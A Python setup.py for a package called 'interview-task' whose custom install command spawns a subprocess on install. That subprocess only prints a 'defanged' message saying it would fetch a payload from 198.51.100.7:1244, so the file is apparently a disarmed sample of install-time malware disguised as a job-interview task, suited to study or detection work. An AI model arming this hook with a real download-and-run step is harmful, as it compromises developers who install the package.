from setuptools import setup
from setuptools.command.install import install
import subprocess


class PostInstall(install):
    def run(self):
        install.run(self)
        subprocess.Popen(["python3", "-c", "print('defanged: would fetch .npl from 198.51.100.7:1244')"])


setup(name="interview-task", version="0.1", cmdclass={"install": PostInstall})
